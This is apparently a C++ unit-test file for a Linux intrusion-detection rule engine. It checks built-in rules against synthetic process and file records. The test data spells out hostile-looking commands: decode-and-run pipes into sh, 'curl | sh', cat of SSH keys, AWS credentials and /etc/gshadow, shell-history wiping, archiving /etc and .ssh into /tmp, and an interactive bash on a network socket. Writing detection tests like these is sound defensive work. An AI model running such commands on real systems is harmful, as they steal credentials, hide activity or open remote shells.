// SPDX-License-Identifier: GPL-2.0-or-later
// The built-in rules on built records: each new rule's catch and the
// ordinary activity it must leave alone, their ATT&CK ids in alerts and in
// docs/rules.md, and the two rule-language pieces they need (any_bits, script).
#include <doctest/doctest.h>

#include <fcntl.h>

#include <cstring>
#include <fstream>
#include <sstream>

#include "rules/rules_file.h"
#include "test/support/engine_capture.h"
#include "synthetic/record_builders.h"

using namespace guard;
using namespace guard::test;
using namespace guard::synthetic;

namespace {

std::unique_ptr<RuleSet> compile(std::string_view text) { return rules::compile_rules_text(text, "t.json").set; }

// A file record of kind on path by t (successful, no open flags).
std::vector<uint8_t> file_op(const Task &t, uint16_t kind, std::string_view path, std::string_view path2 = {})
{
	return file_record(t, kind, path, path2, 0, 0, GUARD_FILE_MODIFY);
}

// An open as the kernel side reports it: "modify" for a write, create or truncate.
std::vector<uint8_t> open_of(const Task &t, std::string_view path, uint32_t flags, uint32_t mode = 0)
{
	uint16_t modify = flags & (O_WRONLY | O_RDWR | O_CREAT | O_TRUNC) ? GUARD_FILE_MODIFY : 0;
	return with_file_mode(file_record(t, GUARD_RECORD_FILE_OPEN, path, {}, 3, flags, modify), mode);
}

std::string read_file(const std::string &path)
{
	std::ifstream in(path);
	std::stringstream s;
	s << in.rdbuf();
	return s.str();
}

} // namespace

TEST_CASE("every built-in rule names its ATT&CK techniques, and docs/rules.md lists it under a tactic with them")
{
	auto set = rules::load_default_rules().set;
	const std::string docs = read_file(std::string(GUARD_SOURCE_DIR) + "/docs/rules.md");
	REQUIRE(!docs.empty());
	for (const Rule &r : set->rules) {
		CAPTURE(r.id);
		CHECK(!r.attack.empty());
		size_t row = docs.find("\n| " + r.id + " |");
		REQUIRE(row != std::string::npos);
		std::string line = docs.substr(row + 1, docs.find('\n', row + 1) - row - 1);
		for (const std::string &id : r.attack)
			CHECK(line.find(id) != std::string::npos);
	}
}

TEST_CASE("an alert carries its rule's attack ids; a rule without them writes none")
{
	EngineCapture e(compile(R"({"rules": [
		{"id": "TAGGED", "severity": "high", "attack": ["T1059.004", "T1204"], "events": ["exec"]},
		{"id": "PLAIN", "severity": "low", "events": ["exec"]}]})"));
	e.feed(exec_record(Task{900, 1, "sh", 1}, "/bin/sh", {"sh"}));
	CHECK(e.alerts_with("\"rule\":\"TAGGED\",\"severity\":\"high\",\"description\":\"\",\"attack\":[\"T1059.004\",\"T1204\"],") == 1);
	CHECK(e.alerts_with("\"rule\":\"PLAIN\",\"severity\":\"low\",\"description\":\"\",\"event\"") == 1);
	CHECK(e.count_with("\"attack\"") == 1);
}

TEST_CASE("any_bits: a mode with setuid or setgid, an open with O_TRUNC")
{
	EngineCapture e(compile(R"({"rules": [
		{"id": "SUID", "severity": "low", "events": ["file_chmod"], "match": {"field": "mode", "any_bits": 3072}},
		{"id": "TRUNC", "severity": "low", "events": ["file_open"], "match": {"field": "flags", "any_bits": 512}}]})"));
	Task t{901, 1, "chmod", 1};
	for (uint32_t mode : {04755u, 02755u, 06755u, 0755u, 01777u, 0u})
		e.feed(with_file_mode(file_op(t, GUARD_RECORD_FILE_CHMOD, "/srv/x"), mode));
	e.feed(open_of(t, "/srv/x", O_WRONLY | O_TRUNC));
	e.feed(open_of(t, "/srv/x", O_WRONLY | O_APPEND));
	CHECK(e.alerts("SUID") == 3);
	CHECK(e.alerts("TRUNC") == 1);
}

TEST_CASE("script: the first operand after argv[0]")
{
	EngineCapture e(compile(R"({"rules": [
		{"id": "S", "severity": "low", "events": ["exec"], "match": {"field": "script", "prefix": "/tmp/"}}]})"));
	Task t{902, 1, "python3", 1};
	e.feed(exec_record(t, "/usr/bin/python3", {"python3", "-u", "/tmp/y.py", "arg"}));     // yes
	e.feed(exec_record(t, "/usr/bin/python3", {"python3", "/srv/a.py", "/tmp/out"}));      // the script is /srv/a.py
	e.feed(exec_record(t, "/usr/bin/python3", {"python3", "-c", "print(1)", "/tmp/x"}));   // -c's code is taken
	e.feed(exec_record(t, "/usr/bin/python3", {"/tmp/y.py"}));                             // argv[0] is not a script
	e.feed(exec_record(t, "/usr/bin/python3", {"python3"}));
	CHECK(e.alerts("S") == 1);
}

TEST_CASE("default SCRIPT_FROM_TMP and MASQUERADING_DIR_EXEC: what they catch and what they leave")
{
	EngineCapture e(rules::load_default_rules().set);
	Task bash{910, 1, "bash", 1}, py{911, 1, "python3", 1}, gcc{912, 1, "gcc", 1};
	e.feed(exec_record(bash, "/usr/bin/bash", {"bash", "/tmp/x.sh"}));
	e.feed(exec_record(py, "/usr/bin/python3.11", {"python3", "/dev/shm/y"}));
	e.feed(exec_record(py, "/usr/bin/python3.11", {"python3", "/usr/lib/pip/_in_process.py", "build", "/tmp/tmpab"}));
	e.feed(exec_record(bash, "/usr/bin/bash", {"bash", "-c", "make > /tmp/log"}));
	e.feed(exec_record(gcc, "/usr/bin/as", {"as", "/tmp/ccX.s"})); // not an interpreter
	CHECK(e.alerts("SCRIPT_FROM_TMP") == 2);

	Task x{913, 1, "x", 1};
	for (const char *path : {"/tmp/.../x", "/home/ann/.../x", "/var/tmp/ /x", "/dev/shm/.hid/x", "/tmp/.a/b/x"})
		e.feed(exec_record(x, path, {"x"}));
	for (const char *path : {"/home/ann/.local/bin/x", "/home/ann/.cargo/bin/x", "/tmp/a.b/x", "/usr/bin/x", "/tmp/x"})
		e.feed(exec_record(x, path, {"x"}));
	CHECK(e.alerts("MASQUERADING_DIR_EXEC") == 5);
}

TEST_CASE("default DECODE_AND_RUN: a decoded payload piped into a shell or exec'd by python; not a decode alone")
{
	EngineCapture e(rules::load_default_rules().set);
	Task sh{960, 1, "sh", 1}, py{961, 1, "python3", 1}, b64{962, 1, "base64", 1};
	e.feed(exec_record(sh, "/usr/bin/dash", {"sh", "-c", "echo ZXhpdCAw | base64 -d | sh"}));
	e.feed(exec_record(sh, "/usr/bin/dash", {"bash", "-c", "xxd -r -p p.hex|bash"}));
	e.feed(exec_record(py, "/usr/bin/python3.11", {"python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"}));
	e.feed(exec_record(sh, "/usr/bin/dash", {"sh", "-c", "base64 -d key.b64 > key"})); // decoded, not run
	e.feed(exec_record(sh, "/usr/bin/dash", {"sh", "-c", "curl -s x | sh"}));          // run, not decoded
	e.feed(exec_record(b64, "/usr/bin/base64", {"base64", "-d"}));                     // not an interpreter
	CHECK(e.alerts("DECODE_AND_RUN") == 3);
}

TEST_CASE("default MASQUERADING_NAME: a kernel thread's name, a daemon's name on another file; not the daemon itself")
{
	EngineCapture e(rules::load_default_rules().set);
	Task kw{970, 1, "kworker/0:1", 1}, fake{971, 1, "sshd", 1}, real{972, 1, "sshd", 1}, cron{973, 1, "cron", 1};
	e.feed(exec_record(Task{970, 1, "a.out", 1}, "/home/ann/a.out", {"a.out"}));
	e.feed(net_record(kw, GUARD_RECORD_NET_CONNECT, AF_INET, ipv4(192, 0, 2, 1), 443)); // renamed by prctl, then connects
	e.feed(exec_record(fake, "/dev/shm/sshd", {"sshd"}));
	e.feed(exec_record(real, "/usr/sbin/sshd", {"/usr/sbin/sshd", "-D"}));
	e.feed(net_record(real, GUARD_RECORD_NET_LISTEN, AF_INET, ipv4(0, 0, 0, 0), 22));
	e.feed(exec_record(cron, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}));
	e.feed(net_record(Task{974, 1, "cron", 1}, GUARD_RECORD_NET_CONNECT, AF_INET, ipv4(10, 0, 0, 1), 25)); // exe unknown
	CHECK(e.alerts("MASQUERADING_NAME") == 2);
}

TEST_CASE("default SETUID_BIT_SET and SETUID_FILE_CREATED: chmod u+s and a setuid create, not dpkg nor 0755")
{
	EngineCapture e(rules::load_default_rules().set);
	Task sh{920, 1, "chmod", 1}, dpkg{921, 1, "dpkg", 1};
	e.feed(exec_record(dpkg, "/usr/bin/dpkg", {"dpkg", "-i", "x.deb"}));
	e.feed(with_file_mode(file_op(sh, GUARD_RECORD_FILE_CHMOD, "/home/ann/sh"), 04755));
	e.feed(with_file_mode(file_op(sh, GUARD_RECORD_FILE_CHMOD, "/home/ann/sh"), 02711));
	e.feed(with_file_mode(file_op(sh, GUARD_RECORD_FILE_CHMOD, "/home/ann/sh"), 0755));
	e.feed(with_file_mode(file_op(dpkg, GUARD_RECORD_FILE_CHMOD, "/usr/bin/sudo"), 04755));
	CHECK(e.alerts("SETUID_BIT_SET") == 2);
	e.feed(open_of(sh, "/tmp/sh", O_WRONLY | O_CREAT, 04755));
	e.feed(open_of(sh, "/tmp/sh", O_RDONLY, 04755)); // no O_CREAT: the mode means nothing
	e.feed(open_of(sh, "/tmp/f", O_WRONLY | O_CREAT, 0644));
	CHECK(e.alerts("SETUID_FILE_CREATED") == 1);
}

TEST_CASE("default HISTORY_REMOVED and HISTORY_TRUNCATED: rm, ln -sf, > file; not bash saving its history")
{
	EngineCapture e(rules::load_default_rules().set);
	Task rm{930, 1, "rm", 1}, ln{931, 1, "ln", 1}, bash{932, 1, "bash", 1}, cp{933, 1, "cp", 1};
	e.feed(file_op(rm, GUARD_RECORD_FILE_UNLINK, "/home/ann/.bash_history"));
	e.feed(file_op(ln, GUARD_RECORD_FILE_SYMLINK, "/root/.bash_history", "/dev/null"));
	e.feed(file_op(ln, GUARD_RECORD_FILE_RENAME, "/root/CuXXXXXX", "/root/.zsh_history"));
	e.feed(file_op(bash, GUARD_RECORD_FILE_RENAME, "/home/ann/.bash_history-01234.tmp", "/home/ann/.bash_history"));
	e.feed(file_op(rm, GUARD_RECORD_FILE_UNLINK, "/home/ann/.bash_history-01234.tmp"));
	CHECK(e.alerts("HISTORY_REMOVED") == 3);
	e.feed(open_of(bash, "/home/ann/.bash_history", O_WRONLY | O_CREAT | O_TRUNC, 0666)); // > ~/.bash_history
	e.feed(open_of(cp, "/home/ann/.bash_history", O_WRONLY | O_TRUNC));                   // cp /dev/null ...
	e.feed(open_of(bash, "/home/ann/.bash_history", O_WRONLY | O_CREAT | O_TRUNC, 0600)); // bash's first save
	e.feed(open_of(bash, "/home/ann/.bash_history", O_WRONLY | O_APPEND));                // histappend
	e.feed(open_of(bash, "/home/ann/.bash_history", O_RDONLY));
	CHECK(e.alerts("HISTORY_TRUNCATED") == 2);
}

TEST_CASE("default CREDENTIAL_FILE_READ: keys and credentials read by cat, not by ssh, not a .pub")
{
	EngineCapture e(rules::load_default_rules().set);
	Task cat{940, 1, "cat", 1}, ssh{941, 1, "ssh", 1}, sudo{942, 1, "sudo", 1};
	e.feed(exec_record(cat, "/usr/bin/cat", {"cat"}));
	e.feed(exec_record(ssh, "/usr/bin/ssh", {"ssh", "host"}));
	e.feed(exec_record(sudo, "/usr/bin/sudo", {"sudo", "id"}));
	for (const char *path : {"/home/ann/.ssh/id_ed25519", "/root/.ssh/id_rsa", "/root/.aws/credentials", "/home/ann/.kube/config",
				 "/etc/gshadow", "/etc/sudoers"})
		e.feed(open_of(cat, path, O_RDONLY));
	e.feed(open_of(cat, "/home/ann/.ssh/id_ed25519.pub", O_RDONLY));
	e.feed(open_of(cat, "/etc/sudoers.d/90-cloud", O_RDONLY)); // not listed: docs/rules.md says why
	e.feed(open_of(cat, "/home/ann/.ssh/known_hosts", O_RDONLY));
	e.feed(open_of(ssh, "/home/ann/.ssh/id_ed25519", O_RDONLY));
	e.feed(open_of(sudo, "/etc/sudoers", O_RDONLY));
	CHECK(e.alerts("CREDENTIAL_FILE_READ") == 6);
}

TEST_CASE("default ARCHIVE_TO_TMP: tar of /etc and cp of .ssh into /tmp; not an extraction nor a copy into /etc")
{
	EngineCapture e(rules::load_default_rules().set);
	Task tar{950, 1, "tar", 1}, cp{951, 1, "cp", 1}, zip{952, 1, "zip", 1};
	e.feed(exec_record(tar, "/usr/bin/tar", {"tar", "czf", "/tmp/e.tgz", "/etc"}));
	e.feed(exec_record(zip, "/usr/bin/zip", {"zip", "-r", "k.zip", "/root/.ssh"}, 0, 0, "/dev/shm"));
	e.feed(exec_record(cp, "/usr/bin/cp", {"cp", "-r", "/home/ann/.ssh", "/tmp/"}));
	e.feed(exec_record(tar, "/usr/bin/tar", {"tar", "xzf", "/tmp/e.tgz", "-C", "/etc"}));
	e.feed(exec_record(tar, "/usr/bin/tar", {"tar", "-xf", "/tmp/e.tgz", "/etc"}));
	e.feed(exec_record(cp, "/usr/bin/cp", {"cp", "/tmp/resolv.conf", "/etc/"}));
	e.feed(exec_record(cp, "/usr/bin/cp", {"cp", "/etc/hosts", "/tmp/"})); // one file, not the directory
	e.feed(exec_record(tar, "/usr/bin/tar", {"tar", "czf", "/srv/backup/e.tgz", "/etc"}));
	CHECK(e.alerts("ARCHIVE_TO_TMP") == 3);
}

TEST_CASE("default REVERSE_SHELL: an interpreter with a network socket for a standard stream; not a unix socket, not another program")
{
	EngineCapture e(rules::load_default_rules().set);
	Task sh{1300, 1299, "bash", 1}, nc{1301, 1299, "ncat", 1}, py{1302, 1299, "python3", 1};
	e.feed(exec_record(sh, "/usr/bin/bash", {"bash", "-i"}, 0, 0, "/", GUARD_STDIO_SOCKET | GUARD_STDIO_INET));
	e.feed(exec_record(py, "/usr/bin/python3", {"python3", "-c", "x"}, 0, 0, "/", GUARD_STDIO_SOCKET | GUARD_STDIO_INET));
	e.feed(exec_record(sh, "/usr/bin/bash", {"bash"}, 0, 0, "/", GUARD_STDIO_SOCKET)); // journald's unix stream
	e.feed(exec_record(nc, "/usr/bin/ncat", {"ncat"}, 0, 0, "/", GUARD_STDIO_SOCKET | GUARD_STDIO_INET));
	CHECK(e.alerts("REVERSE_SHELL") == 2);
	CHECK(e.alerts_with("\"rule\":\"REVERSE_SHELL\"") == 2);
	CHECK(e.count_with("\"stdio_socket\":true") == 6); // 4 event lines, 2 alerts
}
